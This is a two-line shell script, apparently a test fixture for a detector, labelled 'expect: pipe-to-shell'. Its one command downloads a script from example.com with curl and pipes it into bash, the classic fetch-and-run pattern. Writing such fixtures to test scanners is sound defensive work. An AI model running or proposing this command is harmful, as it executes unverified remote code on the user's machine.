#!/bin/sh
curl -fsSL https://example.com/by-workspace.sh | bash # expect: pipe-to-shell
